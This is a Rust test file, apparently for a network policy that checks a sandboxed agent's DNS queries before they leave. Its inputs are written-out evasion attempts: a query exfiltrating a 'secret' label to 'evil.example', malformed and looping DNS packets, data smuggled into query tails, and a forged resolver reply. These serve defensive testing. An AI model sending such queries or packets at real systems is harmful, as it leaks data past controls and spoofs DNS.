//! What may be asked, of whom, and in what shape: judged before the wire, because a look-up is a way out.

use kernel_tests::{
    check::fields,
    dns::{Resolver, address, refused},
    policies::NAMES,
    run::{Bench, Outcome},
    server::{Place, dns_udp, reply},
    sniff::Sniffer,
};
use serde_json::{Value, json};

/// Sends each of these Python expressions to the resolver; says which were answered.
fn answered(bench: &Bench, policy: &str, queries: &[&str]) -> (Vec<bool>, Outcome) {
    let program = format!(
        "for q in [{}]: print(isinstance(udp(q), bytes))\n",
        queries.join(", ")
    );
    let out = bench.agent(policy, &program);
    (out.words().iter().map(|w| *w == "True").collect(), out)
}

#[test]
fn case_27_a_name_that_no_rule_could_allow_is_not_asked_for() {
    let bench = Bench::new();
    let resolver = Resolver::naming(&[]);
    let wire = Sniffer::start();
    let (got, out) = answered(
        &bench,
        NAMES,
        &[
            "query('secret-1.evil.example')",
            "query('x.deny.example')",
            "query('api.example', 16)",
        ],
    );
    assert_eq!(got, [false, false, true]);
    assert_eq!(resolver.asked(), ["api.example"]);
    let leaked = wire
        .to("192.0.2.53")
        .iter()
        .any(|p| p.rest.windows(4).any(|w| w == b"evil"));
    assert!(!leaked, "the name was on the wire");
    for name in ["secret-1.evil.example", "x.deny.example"] {
        let r = out.only(&[("qname", json!(name))]);
        fields(
            r,
            &json!({"verdict": "DENIED", "reason": "name", "dst_ip": "192.0.2.53", "dst_port": 53,
                    "l4_proto": "udp", "dst_host": null, "bytes_out": 0, "comm": "python3"}),
        );
    }
}

#[test]
fn suffixes_stars_and_case_are_as_in_the_policy() {
    let bench = Bench::new();
    let resolver = Resolver::naming(
        &["api.example", "a.b.star.example", "suffix.example"].map(|n| (n, "203.0.113.9")),
    );
    let (got, out) = answered(
        &bench,
        NAMES,
        &[
            "query('API.ExAmPlE')",
            "query('www.api.example')",
            "query('xapi.example')",
            "query('star.example')",
            "query('A.b.STAR.example')",
            "query('suffix.example')",
            "query('deep.er.suffix.example')",
            "query('notsuffix.example')",
            "query('example')",
            "query('')",
        ],
    );
    assert_eq!(
        got,
        [
            true, false, false, false, true, true, true, false, false, false
        ]
    );
    assert_eq!(
        resolver.asked(),
        [
            "api.example",
            "a.b.star.example",
            "suffix.example",
            "deep.er.suffix.example"
        ]
    );
    let names: Vec<Value> = refused(&out).into_iter().map(|(_, n)| n).collect();
    assert_eq!(
        names[..5],
        [
            "www.api.example",
            "xapi.example",
            "star.example",
            "notsuffix.example",
            "example"
        ]
        .map(|n| json!(n))
    );
    assert!(refused(&out).iter().all(|(reason, _)| reason == "name"));
}

#[test]
fn a_name_in_mixed_case_opens_what_the_rule_says() {
    let bench = Bench::new();
    let _resolver = Resolver::naming(&[("api.example", "203.0.113.9")]);
    let place = Place::open("203.0.113.9:443");
    let out = bench.agent(
        NAMES,
        "ask('aPI.exaMPLE'); print(tcp('203.0.113.9', 443))\n",
    );
    assert_eq!(out.stdout.trim(), "ok");
    fields(
        out.only(&[("dst_port", json!(443))]),
        &json!({"dst_host": "api.example"}),
    );
    assert_eq!(place.calls(), 1);
}

#[test]
fn labels_that_are_not_text_are_refused() {
    let bench = Bench::new();
    let resolver = Resolver::naming(&[]);
    let bad = [
        // Looks like api.example as text, is another name.
        "query([b'api.example'])",
        "query([b'x.y', b'suffix', b'example'])",
        "query([b'a\\0b', b'suffix', b'example'])",
        "query([b'a b', b'suffix', b'example'])",
        "query([b'\\xff', b'suffix', b'example'])",
        "query([b'\\x1b[2J', b'suffix', b'example'])",
        // A pointer in a question, and one to itself.
        "query('x')[:12] + b'\\xc0\\x0c\\0\\1\\0\\1'",
        "query('x')[:12] + b'\\3api\\xc0\\x0c\\0\\1\\0\\1'",
        // Too long for a name, and never ending.
        "query('.'.join(['a' * 60] * 4) + '.suffix.example')",
        "query('x')[:12] + b'\\1a' * 200",
        "query('x')[:12] + b'\\x3f' + b'a' * 20",
    ];
    let (got, out) = answered(&bench, NAMES, &bad);
    assert_eq!(got, vec![false; bad.len()]);
    assert_eq!(resolver.asked(), Vec::<String>::new());
    assert_eq!(
        refused(&out),
        vec![("query".to_owned(), Value::Null); bad.len()]
    );
}

#[test]
fn only_one_plain_question_may_leave() {
    let bench = Bench::new();
    let resolver = Resolver::naming(&[]);
    let q = "'api.example'";
    let edns = "b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\4\\0\\x0a\\0\\0'";
    let good = [
        format!("query({q})"),
        format!("query({q}, 255)"),
        format!("query({q}, flags=0x0120)"),
        format!("query({q}, counts=(1,0,0,1), tail={edns})"),
    ];
    let bad = [
        format!("query({q}, counts=(2,0,0,0), tail=query('b.example')[12:])"),
        format!("query({q}, counts=(0,0,0,0))"),
        format!("query({q}, counts=(1,1,0,0), tail=b'x' * 16)"),
        format!("query({q}, counts=(1,0,1,0), tail=b'x' * 16)"),
        format!("query({q}, flags=0x8100)"),
        format!("query({q}, flags=0x2900)"),
        format!("query({q}, flags=0x0300)"),
        format!("query({q}, tail=b'secret')"),
        format!("query({q}, counts=(1,0,0,1), tail={edns} + b'secret')"),
        format!("query({q}, counts=(1,0,0,2), tail={edns} + {edns})"),
        format!("query({q}, counts=(1,0,0,1), tail=b'\\0\\0\\x10\\x10\\0\\0\\0\\0\\0\\0\\0')"),
        format!("query({q}, counts=(1,0,0,1), tail=b'\\1x' + {edns}[1:])"),
        format!("query({q})[:-1]"),
        format!(
            "query({q}, counts=(1,0,0,1), tail=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\2\\0' + b'e' * 512)"
        ),
        "b'x'".to_owned(),
        "b''".to_owned(),
    ];
    let all: Vec<&str> = good.iter().chain(&bad).map(String::as_str).collect();
    let (got, out) = answered(&bench, NAMES, &all);
    let expected = [vec![true; good.len()], vec![false; bad.len()]].concat();
    assert_eq!(got, expected, "{all:#?}");
    assert_eq!(resolver.asked().len(), good.len());
    assert_eq!(
        refused(&out),
        vec![("query".to_owned(), Value::Null); bad.len()]
    );
}

#[test]
fn several_queries_in_one_buffer_of_many_datagrams_are_refused() {
    let bench = Bench::new();
    let resolver = Resolver::naming(&[]);
    let out = bench.agent(
        NAMES,
        "s = dgram(); q = query('api.example')\n\
         s.setsockopt(17, 103, len(q)); bad = query('evl.example')\n\
         assert len(q) == len(bad)\n\
         print(tried(lambda: s.sendto(q + bad, (R, 53))))\n",
    );
    assert_eq!(out.stdout.trim(), "EPERM");
    assert_eq!(refused(&out), [("query".to_owned(), Value::Null)]);
    assert_eq!(resolver.asked(), Vec::<String>::new());
}

#[test]
fn under_default_allow_any_name_may_be_asked_for() {
    let bench = Bench::new();
    let resolver = Resolver::naming(&[]);
    let (got, out) = answered(
        &bench,
        "default: allow\nresolvers: [192.0.2.53]\nrules: []\n",
        &[
            "query('any.thing.example')",
            "query('api.example', tail=b'x')",
        ],
    );
    assert_eq!(got, [true, false]);
    assert_eq!(resolver.asked(), ["any.thing.example"]);
    assert_eq!(refused(&out), [("query".to_owned(), Value::Null)]);
}

#[test]
fn nobody_inside_answers_for_the_resolver() {
    let bench = Bench::new();
    let place = Place::open("203.0.113.9:443");
    let forged = "a = dgram(); a.settimeout(10); f = dgram(); f.bind((R, 53)); f.settimeout(10)\n\
        a.sendto(query('api.example'), (R, 53)); q, who = f.recvfrom(512)\n\
        print(tried(lambda: f.sendto(answer(q, '203.0.113.9'), who)))\n\
        print(tcp('203.0.113.9', 443))\n";
    let out = bench.agent(NAMES, forged);
    assert_eq!(out.words(), ["EPERM", "EPERM"]);
    let r = out.only(&[
        ("src_ip", json!("192.0.2.53")),
        ("verdict", json!("DENIED")),
    ]);
    fields(
        r,
        &json!({"reason": "resolver", "src_port": 53, "l4_proto": "udp"}),
    );
    fields(
        out.only(&[("dst_port", json!(443))]),
        &json!({"verdict": "DENIED", "dst_host": null}),
    );
    assert_eq!(place.calls(), 0);
}

#[test]
fn a_resolver_of_another_family_or_mapping_is_the_same_resolver() {
    let bench = Bench::new();
    let _asked = dns_udp("192.0.2.53", |q, _| {
        vec![reply(q, &[address("203.0.113.9", 300)])]
    });
    let place = Place::open("203.0.113.9:443");
    let out = bench.agent(
        NAMES,
        "got = udp(query('evil.example'), '::ffff:192.0.2.53'); ask('api.example', 1, '::ffff:192.0.2.53')\n\
         print(got, tcp('203.0.113.9', 443))\n",
    );
    assert_eq!(out.stdout.trim(), "EPERM ok");
    fields(
        out.only(&[("qname", json!("evil.example"))]),
        &json!({"reason": "name", "dst_ip": "192.0.2.53"}),
    );
    assert_eq!(place.calls(), 1);
}
